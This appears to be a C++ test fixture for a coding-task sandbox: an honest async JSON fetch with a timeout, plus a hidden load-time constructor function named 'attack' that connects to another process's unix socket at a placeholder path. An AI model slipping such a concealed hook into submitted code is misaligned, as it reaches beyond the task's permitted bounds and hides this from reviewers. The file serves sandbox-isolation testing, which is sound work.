// Connects to somebody else's unix socket by its path; the rest is an honest solution.
#include <sys/socket.h>
#include <sys/un.h>

#include <cstring>
#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  sockaddr_un server{};
  server.sun_family = AF_UNIX;
  std::strncpy(server.sun_path, "@UNIX@", sizeof server.sun_path - 1);
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  ::connect(fd, reinterpret_cast<const sockaddr*>(&server), sizeof server);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
